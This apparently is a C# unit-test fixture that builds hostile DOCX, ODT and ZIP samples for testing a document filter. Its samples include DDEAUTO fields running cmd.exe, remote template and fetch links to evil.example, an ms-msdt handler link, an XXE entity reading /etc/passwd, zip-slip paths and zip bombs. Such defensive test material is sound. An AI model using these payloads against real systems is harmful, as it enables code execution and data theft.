using System.Buffers.Binary;

namespace Pimms.UnitTests;

/// <summary>DOCX and ODT with macros, controls, other files and templates from elsewhere; ZIPs that explode or lie.</summary>
internal static class HostileContainers
{
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[100]];

    public static IEnumerable<SampleFile> Docx()
    {
        static SampleFile Of(string label, byte[] content) => new($"docx {label}", "lettre.docx", content);
        yield return Of("with macros", ContainerWriter.Docx(more: ("word/vbaProject.bin", Ole)));
        yield return Of("that says it has macros", ContainerWriter.Docx(main: "application/vnd.ms-word.document.macroEnabled.main+xml"));
        yield return Of("that is a template with macros", ContainerWriter.Docx(main: "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"));
        yield return Of("with macros by type", ContainerWriter.Docx(types: "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"));
        yield return Of("with macros under another name", ContainerWriter.Docx(more: ("word/media/image1.png", Ole)));
        yield return Of("with a control", ContainerWriter.Docx(more: ("word/activeX/activeX1.xml", ContainerWriter.Xml("<a/>"))));
        yield return Of("with an embedded workbook", ContainerWriter.Docx(more: ("word/embeddings/oleObject1.bin", Ole)));
        yield return Of("with a zip as a picture", ContainerWriter.Docx(more: ("word/media/image1.png", ContainerWriter.Zip(("a.exe", [1])))));
        yield return Of("with a program as a picture", ContainerWriter.Docx(more: ("word/media/image1.jpeg", [.. Bytes.Latin("MZ"), .. new byte[50]])));
        yield return Of("with a program", ContainerWriter.Docx(more: ("word/a.exe", [1, 2])));
        yield return Of("with a page", ContainerWriter.Docx(more: ("word/afchunk.html", Bytes.Latin("<script>"))));
        foreach (var type in (string[])["attachedTemplate", "oleObject", "image", "frame", "subDocument", "aFChunk", "package"])
            yield return Of($"that fetches: {type}", ContainerWriter.Docx(relations: ContainerWriter.Relation(type, "https://evil.example/x.dotm", external: true)));
        yield return Of("with a template on a share", ContainerWriter.Docx(relations: ContainerWriter.Relation("attachedTemplate", "\\\\evil.example\\share\\x.dotm", external: true)));
        yield return Of("with a link that scripts", ContainerWriter.Docx(relations: ContainerWriter.Relation("hyperlink", "javascript:alert(1)", external: true)));
        yield return Of("with a link to a file", ContainerWriter.Docx(relations: ContainerWriter.Relation("hyperlink", "file:///c:/windows/system32/cmd.exe", external: true)));
        yield return Of("with a link to a handler", ContainerWriter.Docx(relations: ContainerWriter.Relation("hyperlink", "ms-msdt:/id x", external: true)));
        yield return Of("with a part from elsewhere that says it is inside", ContainerWriter.Docx(relations: ContainerWriter.Relation("image", "https://evil.example/x.png")));
        yield return Of("with macros by relation", ContainerWriter.Docx(relations: ContainerWriter.Relation("vbaProject", "project")));
        foreach (var field in (string[])[" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k\" ", " DDE cmd ", "INCLUDETEXT \"https://evil.example/x\"", " INCLUDEPICTURE \"https://evil.example/x\" ", " LINK Excel.Sheet.8 ", " MACROBUTTON x y ", " ddeauto cmd"])
            yield return Of($"with the field {field.Trim().Split(' ')[0]}", ContainerWriter.Docx(ContainerWriter.Field(System.Security.SecurityElement.Escape(field)!)));
        yield return Of("with a field cut into pieces", ContainerWriter.Docx(ContainerWriter.Field(" D", "D", "EAU", "TO cmd")));
        yield return Of("with a field made by a field", ContainerWriter.Docx(ContainerWriter.Field("QUOTE 68 68 69")));
        yield return Of("with a simple field", ContainerWriter.Docx("<w:p><w:fldSimple w:instr=\" DDEAUTO cmd \"/></w:p>"));
        yield return Of("with an object", ContainerWriter.Docx("<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>"));
        yield return Of("with a part to be read in", ContainerWriter.Docx("<w:altChunk r:id=\"x\"/>"));
        yield return Of("with an entity that explodes", ContainerWriter.Docx(more: ("word/settings.xml", Bytes.Latin("<!DOCTYPE a [<!ENTITY b \"cccc\">]><a>&b;</a>"))));
        yield return Of("with an entity from elsewhere", ContainerWriter.Docx(more: ("word/settings.xml", Bytes.Latin("<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>"))));
        yield return Of("nested a thousand times", ContainerWriter.Docx(string.Concat(Enumerable.Repeat("<w:p>", 1000)) + string.Concat(Enumerable.Repeat("</w:p>", 1000))));
        yield return Of("that is not XML", ContainerWriter.Docx(more: ("word/styles.xml", Bytes.Latin("MZ not xml"))));
    }

    public static IEnumerable<SampleFile> Odt()
    {
        static SampleFile Of(string label, byte[] content) => new($"odt {label}", "lettre.odt", content);
        yield return Of("with Basic", ContainerWriter.Odt(more: ("Basic/Standard/Module1.xml", ContainerWriter.Xml("<a/>"))));
        yield return Of("with scripts", ContainerWriter.Odt(more: ("Scripts/python/evil.py", Bytes.Latin("import os"))));
        yield return Of("with a script", ContainerWriter.Odt(before: "<office:scripts><office:script script:language=\"ooo:Basic\"/></office:scripts>"));
        yield return Of("that starts something when opened", ContainerWriter.Odt(before: "<office:scripts><office:event-listeners><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x\"/></office:event-listeners></office:scripts>"));
        yield return Of("with a link that scripts", ContainerWriter.Odt("<text:p><text:a xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic\">x</text:a></text:p>"));
        yield return Of("with a link to a macro", ContainerWriter.Odt("<text:p><text:a xlink:href=\"macro:///Standard.Module1.Main\">x</text:a></text:p>"));
        yield return Of("with a picture from elsewhere", ContainerWriter.Odt("<draw:frame><draw:image xlink:href=\"https://evil.example/x.png\"/></draw:frame>"));
        yield return Of("with a picture on a share", ContainerWriter.Odt("<draw:frame><draw:image xlink:href=\"//evil.example/x.png\"/></draw:frame>"));
        yield return Of("with an object", ContainerWriter.Odt("<draw:frame><draw:object xlink:href=\"./Object 1\"/></draw:frame>"));
        yield return Of("with an OLE object", ContainerWriter.Odt("<draw:frame><draw:object-ole xlink:href=\"./Object 1\"/></draw:frame>", more: ("Object 1", Ole)));
        yield return Of("with a section from elsewhere", ContainerWriter.Odt("<text:section><text:section-source xlink:href=\"https://evil.example/x.odt\"/></text:section>"));
        yield return Of("with a frame", ContainerWriter.Odt("<draw:frame><draw:floating-frame xlink:href=\"https://evil.example/\"/></draw:frame>"));
        yield return Of("with a plug-in", ContainerWriter.Odt("<draw:frame><draw:plugin xlink:href=\"x\"/></draw:frame>"));
        yield return Of("with DDE", ContainerWriter.Odt("<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"));
        yield return Of("with a macro field", ContainerWriter.Odt("<text:p><text:execute-macro text:name=\"x\"/></text:p>"));
        yield return Of("with a form", ContainerWriter.Odt("<office:forms><form:form xlink:href=\"https://evil.example/\"/></office:forms>"));
        yield return Of("that asks for a password", ContainerWriter.Odt(manifest: "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"));
        yield return Of("with a template from elsewhere", ContainerWriter.Odt(more: ("meta.xml", ContainerWriter.Meta("<meta:template xlink:href=\"https://evil.example/x.ott\"/>"))));
        yield return Of("that is a template", ContainerWriter.Odt(mark: "application/vnd.oasis.opendocument.text-template"));
        yield return Of("that is a spreadsheet", ContainerWriter.Odt(mark: "application/vnd.oasis.opendocument.spreadsheet"));
        yield return Of("with an entity that explodes", ContainerWriter.Odt(more: ("settings.xml", Bytes.Latin("<!DOCTYPE a [<!ENTITY b \"cccc\">]><a>&b;</a>"))));
        yield return Of("with a program as a picture", ContainerWriter.Odt(more: ("Pictures/1.png", [.. Bytes.Latin("MZ"), .. new byte[50]])));
        yield return Of("with a page", ContainerWriter.Odt(more: ("index.html", Bytes.Latin("<script>"))));
    }

    public static IEnumerable<SampleFile> Zips()
    {
        static SampleFile Of(string label, byte[] content) => new($"zip {label}", "lettre.docx", content);
        yield return Of("that is just a zip", ContainerWriter.Zip(("a.txt", Bytes.Latin("x"))));
        yield return Of("with eicar", ContainerWriter.Zip(("eicar.com", Bytes.Latin(Bytes.Eicar))));
        yield return Of("in a zip in a zip", ContainerWriter.Zip(("a.zip", ContainerWriter.Zip(("b.zip", ContainerWriter.Zip(("eicar.com", Bytes.Latin(Bytes.Eicar))))))));
        yield return Of("that explodes", ContainerWriter.Docx(more: ("word/media/image1.bmp", new byte[99_000_000])));
        yield return Of("that explodes in many parts", ContainerWriter.Docx(more: [.. Enumerable.Range(0, 120).Select(number => ($"customXml/item{number}.xml", new byte[990_000]))]));
        yield return Of("of two thousand parts", ContainerWriter.Docx(more: [.. Enumerable.Range(0, 2000).Select(number => ($"customXml/item{number}.xml", Bytes.Latin("<a/>")))]));
        yield return Of("whose entry leads elsewhere", ContainerWriter.Docx(more: ("../../evil.xml", Bytes.Latin("<a/>"))));
        yield return Of("whose entry is absolute", ContainerWriter.Docx(more: ("/etc/evil.xml", Bytes.Latin("<a/>"))));
        yield return Of("whose entry has a backslash", ContainerWriter.Docx(more: ("word\\evil.xml", Bytes.Latin("<a/>"))));
        yield return Of("with the same entry twice", ContainerWriter.Docx(more: ("word/document.xml", Bytes.Latin("<a/>"))));
        yield return Of("with the same entry twice but for its case", ContainerWriter.Docx(more: ("WORD/document.xml", Bytes.Latin("<a/>"))));
        yield return Of("with a comment", Patched(ContainerWriter.Docx(), bytes => bytes[^2] = 1, [(byte)'x']));
        yield return Of("with a gap", [.. ContainerWriter.Docx()[..1], .. ContainerWriter.Docx()]);
        yield return Of("that asks for a password", Patched(ContainerWriter.Docx(), bytes => bytes[Directory(bytes) + 8] |= 1));
        yield return Of("that lies about a size", Patched(ContainerWriter.Docx(), bytes => bytes[Directory(bytes) + 24] ^= 7));
        yield return Of("that lies about a sum", Patched(ContainerWriter.Docx(), bytes => bytes[Directory(bytes) + 16] ^= 7));
        yield return Of("with an entry that overlaps another", Patched(ContainerWriter.Docx(), bytes => bytes[Directory(bytes) + 42] = 3));
        yield return Of("whose directory is elsewhere", Patched(ContainerWriter.Docx(), bytes => bytes[^6] ^= 1));
        yield return Of("of two disks", Patched(ContainerWriter.Docx(), bytes => bytes[^18] = 1));
        yield return Of("with an entry under two names", Patched(ContainerWriter.Docx(), bytes => bytes[Directory(bytes) + 47] ^= 1));
    }

    private static int Directory(byte[] zip) => BinaryPrimitives.ReadInt32LittleEndian(zip.AsSpan(zip.Length - 6));

    private static byte[] Patched(byte[] zip, Action<byte[]> patch, byte[]? more = null)
    {
        patch(zip);
        return [.. zip, .. more ?? []];
    }
}
